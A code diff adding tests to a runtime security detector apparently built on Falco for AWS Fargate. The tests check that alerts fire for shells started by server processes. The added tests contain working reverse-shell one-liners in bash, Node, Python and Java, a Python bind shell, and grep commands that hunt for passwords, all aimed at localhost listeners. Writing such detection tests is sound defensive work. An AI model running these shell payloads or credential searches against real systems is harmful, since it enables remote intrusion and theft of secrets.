@@ -5,9 +5,10 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { execa } from 'execa';
 import { mkdirSync, readFileSync, rmSync, copyFileSync, chmodSync, writeFileSync } from 'node:fs';
-import { createServer } from 'node:net';
+import { connect, createServer } from 'node:net';
 import { join } from 'node:path';
-import { tmp, runForAlerts, namedBinary } from '../helpers.js';
+import { tmp, runForAlerts, namedBinary, instrument, testEnv, readAlerts } from '../helpers.js';
+import { shellCatcher } from './workloads.js';
 import { useEcsMetadata, ECS_CONTAINER } from '../ecs-metadata.js';
 import type { FalcoAlert } from '../../src/alerts/alert.js';
 
@@ -140,6 +141,134 @@ test('write below a binary directory', async () => {
   } finally {
     rmSync(f, { force: true });
   }
+});
+
+// ---- reverse and bind shells from application runtimes ----
+
+const SHELL_RULE = 'Fargate shell started by a server process';
+const STDIO_RULE = 'Fargate stdio redirected to a network socket';
+/** Commands the attacker's listener sends; the answer proves the shell ran them. */
+const TYPED = 'echo pwned-$((6*7)); exit\n';
+
+async function reverseShell(argv: (port: number) => string[]) {
+  const catcher = await shellCatcher(TYPED);
+  try {
+    const { alerts } = await run(argv(catcher.port));
+    assert.match(await catcher.received, /pwned-42/);
+    return alerts;
+  } finally {
+    catcher.close();
+  }
+}
+
+test('reverse shell from a node server (child_process.exec of bash /dev/tcp)', async () => {
+  const alerts = await reverseShell((port) => [
+    process.execPath,
+    '-e',
+    `require('child_process').exec("bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'", () => {})`,
+  ]);
+  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.pname'], 'node');
+  assert.is(fired(alerts, STDIO_RULE).output_fields['proc.name'], 'bash');
+});
+
+test('reverse shell from a node server (sh piped to a socket, no dup)', async () => {
+  const alerts = await reverseShell((port) => [
+    process.execPath,
+    '-e',
+    `const s = require('net').connect(${port}, '127.0.0.1', () => {
+       const sh = require('child_process').spawn('/bin/sh', []);
+       s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
+       sh.on('exit', () => s.end());
+     });`,
+  ]);
+  const a = fired(alerts, SHELL_RULE);
+  assert.is(a.output_fields['proc.cmdline'], 'sh');
+  assert.is(a.output_fields['proc.pname'], 'node');
+});
+
+test('reverse shell from python (dup2 onto 0, 1, 2, then sh -i)', async () => {
+  const alerts = await reverseShell((port) => [
+    PY,
+    '-c',
+    `import os, socket, subprocess; s = socket.create_connection(("127.0.0.1", ${port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; subprocess.call(["/bin/sh", "-i"])`,
+  ]);
+  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.cmdline'], 'sh -i');
+  const stdio = alerts.filter((a) => a.rule === STDIO_RULE);
+  assert.equal(stdio.map((a) => a.output_fields['evt.rawres']).sort(), [0, 1, 2]);
+});
+
+test('reverse shell from java (Runtime.exec of bash /dev/tcp)', async () => {
+  const src = join(dir, 'java-rev');
+  mkdirSync(src, { recursive: true });
+  writeFileSync(
+    join(src, 'Rev.java'),
+    `public class Rev {
+  public static void main(String[] a) throws Exception {
+    Runtime.getRuntime().exec(new String[] {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + a[0] + " 0>&1"}).waitFor();
+  }
+}
+`,
+  );
+  await execa('javac', ['-d', src, join(src, 'Rev.java')]);
+  const alerts = await reverseShell((port) => ['java', '-cp', src, 'Rev', String(port)]);
+  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.pname'], 'java');
+  fired(alerts, STDIO_RULE);
+});
+
+test('sh -i spawned by a server with its stdio on the accepted socket (bind shell)', async () => {
+  const alertsFile = join(tmp('alerts-'), 'alerts.jsonl');
+  const server = `import os, socket, sys
+l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
+print(l.getsockname()[1], flush=True)
+c, _ = l.accept()
+if os.fork() == 0:
+    for f in (0, 1, 2): os.dup2(c.fileno(), f)
+    os.execv("/bin/sh", ["sh", "-i"])
+c.close(); os.wait()`;
+  const child = instrument([PY, '-c', server], {
+    env: testEnv({ SYSDIG_LOGGING: 'error', ECS_CONTAINER_METADATA_URI_V4: ecs.uri, SYSDIG_EXTRA_ARGS: `--alerts-file ${alertsFile}` }),
+  });
+  // the server prints its port once it listens
+  const port = await new Promise<number>((resolve, reject) => {
+    let out = '';
+    child.stdout!.on('data', (d) => {
+      out += d;
+      if (out.includes('\n')) resolve(Number(out.trim()));
+    });
+    child.then(() => reject(new Error('the server exited before listening')), reject);
+  });
+  const got = await new Promise<string>((resolve, reject) => {
+    let text = '';
+    const s = connect(port, '127.0.0.1', () => s.write(TYPED));
+    s.setEncoding('utf8');
+    s.on('data', (d) => (text += d));
+    s.on('close', () => resolve(text));
+    s.on('error', reject);
+  });
+  assert.match(got, /pwned-42/);
+  await child;
+  const alerts = readAlerts(alertsFile);
+  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.cmdline'], 'sh -i');
+  assert.is(fired(alerts, 'Fargate stdio on an accepted connection').output_fields['proc.name'], 'python3');
+  assert.not.ok(alerts.some((a) => a.rule === STDIO_RULE), 'an accepted connection is not a reverse shell');
+});
+
+test('credential search typed into an interactive shell', async () => {
+  writeFileSync(join(dir, 'app.conf'), 'db_password=hunter2\n');
+  const { alerts } = await runForAlerts(['sh', '-i'], '', { ECS_CONTAINER_METADATA_URI_V4: ecs.uri }, { input: `grep -ri password ${dir} > /dev/null; exit\n` });
+  assert.is(fired(alerts, 'Fargate credential search').output_fields['proc.pname'], 'sh');
+});
+
+test('credential search by a shell a server started', async () => {
+  writeFileSync(join(dir, 'app.conf'), 'db_password=hunter2\n');
+  const { alerts } = await run([
+    process.execPath,
+    '-e',
+    `require('child_process').exec(${JSON.stringify(`cd ${dir} && grep -rl password . > /dev/null; echo done`)}, () => {})`,
+  ]);
+  const a = fired(alerts, 'Fargate credential search');
+  assert.is(a.output_fields['proc.pname'], 'sh');
+  assert.is(a.output_fields['proc.aname[2]'], 'node');
 });
 
 test('ordinary programs raise nothing', async () => {
